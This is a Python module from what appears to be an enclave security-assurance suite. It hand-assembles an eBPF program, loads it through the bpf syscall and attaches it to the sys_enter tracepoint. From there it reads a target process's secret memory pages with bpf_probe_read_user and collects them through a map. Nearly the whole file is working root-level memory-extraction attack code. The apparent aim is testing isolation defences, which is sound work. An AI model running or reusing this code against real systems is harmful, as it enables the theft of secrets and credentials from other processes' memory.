"""A handwritten BPF program that runs at each system call of the enclave and reads the enclave's user memory."""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import time
from collections.abc import Iterator
from pathlib import Path

from assurance.root.attacker.attacks import Attack, Outcome
from assurance.root.attacker.linux import SYS_BPF, syscall
from assurance.root.attacker.reads import judged
from assurance.root.attacker.victim import Victim
from assurance.root.attacker.writes import secret_area

_MAP_CREATE, _MAP_LOOKUP, _PROG_LOAD, _RAW_TRACEPOINT_OPEN = 0, 1, 5, 17
_ARRAY, _RAW_TRACEPOINT = 2, 17
_LOOKUP, _READ_USER, _NS_PID = 1, 112, 120
_PAGES = 32
_VALUE = _PAGES * mmap.PAGESIZE + 8
_MOST = 1 << 20
_SECONDS = 3.0


def _bpf(command: int, attributes: bytes) -> int:
    buffer = ctypes.create_string_buffer(attributes, len(attributes))
    return syscall(SYS_BPF, command, buffer, len(attributes))


def _insn(code: int, dst: int = 0, src: int = 0, offset: int = 0, value: int = 0) -> bytes:
    return struct.pack("<BBhi", code, dst | src << 4, offset, value)


def _wide(dst: int, value: int, src: int = 0) -> bytes:
    """A 64-bit constant; with `src` 1, a map by its descriptor."""
    low, high = struct.unpack("<ii", struct.pack("<Q", value))
    return _insn(0x18, dst, src, 0, low) + _insn(0, 0, 0, 0, high)


def _move(dst: int, src: int, add: int = 0) -> bytes:
    return _insn(0xBF, dst, src) + (_insn(0x07, dst, 0, 0, add) if add else b"")


def _call(number: int) -> bytes:
    return _insn(0x85, 0, 0, 0, number)


_END = _insn(0xB7) + _insn(0x95)
"""r0 = 0; exit."""


def program(pid: int, at: int, store: int) -> bytes:
    """Instructions that read `_PAGES` pages of a process, seen from this PID namespace, into an array's one value.

    Args:
        pid: Of the process.
        at: First address.
        store: Descriptor of the array.
    """
    place = Path("/proc/self/ns/pid").stat()
    read = b"".join(
        _move(1, 7, page * mmap.PAGESIZE)
        + _insn(0xB7, 2, 0, 0, mmap.PAGESIZE)
        + _wide(3, at + page * mmap.PAGESIZE)
        + _call(_READ_USER)
        for page in range(_PAGES)
    )
    found = _insn(0x55, 0, 0, 2, 0) + _END + _move(7, 0)  # unless r0 == 0
    mark = _insn(0xB7, 1, 0, 0, 1) + _move(2, 7, _PAGES * mmap.PAGESIZE) + _insn(0x7B, 2, 1)
    return b"".join(
        (
            _wide(1, place.st_dev),
            _wide(2, place.st_ino),
            _move(3, 10, -8),
            _insn(0xB7, 4, 0, 0, 8),
            _call(_NS_PID),
            _insn(0x15, 0, 0, 2, 0) + _END,  # unless r0 != 0
            _insn(0x61, 1, 10, -4),
            _insn(0x15, 1, 0, 2, pid) + _END,  # unless it is another process
            _insn(0x62, 10, 0, -16, 0),
            _wide(1, store, 1),
            _move(2, 10, -16),
            _call(_LOOKUP),
            found,
            read,
            mark,
            _END,
        )
    )


def bpf_probe(victim: Victim) -> Outcome:
    """A raw tracepoint's program with `bpf_probe_read_user` on the secret pages."""
    store = _bpf(_MAP_CREATE, struct.pack("<IIII", _ARRAY, 4, _VALUE, 1).ljust(72, b"\0"))
    pid = victim.enclave()
    secret = secret_area(pid)
    step = _PAGES * mmap.PAGESIZE

    def parts() -> Iterator[bytes]:
        for at in range(secret.start, min(secret.end - step, secret.start + _MOST), step):
            yield _read(pid, at, store, victim.until(_SECONDS))

    with victim.busy(victim.known):
        out = judged(victim, parts(), "by bpf_probe_read_user")
    return Outcome(out.windows > 0, out.detail, out.windows)


def _read(pid: int, at: int, store: int, until: float) -> bytes:
    code, licence = program(pid, at, store), ctypes.create_string_buffer(b"GPL")
    held = ctypes.create_string_buffer(code, len(code))
    head = struct.pack("<IIQQ", _RAW_TRACEPOINT, len(code) // 8, ctypes.addressof(held), ctypes.addressof(licence))
    loaded = _bpf(_PROG_LOAD, head.ljust(72, b"\0"))
    name = ctypes.create_string_buffer(b"sys_enter")
    attached = _bpf(_RAW_TRACEPOINT_OPEN, struct.pack("<QI", ctypes.addressof(name), loaded).ljust(16, b"\0"))
    try:
        key, value = ctypes.c_uint32(0), ctypes.create_string_buffer(_VALUE)
        look = struct.pack("<IIQQQ", store, 0, ctypes.addressof(key), ctypes.addressof(value), 0)
        while time.monotonic() < until:
            _bpf(_MAP_LOOKUP, look)
            if any(value.raw[-8:]):
                break
            time.sleep(0.001)
        return value.raw[:-8]
    finally:
        os.close(attached)
        os.close(loaded)


ATTACKS = (Attack("bpf_probe", "kernel", bpf_probe, everywhere=True),)
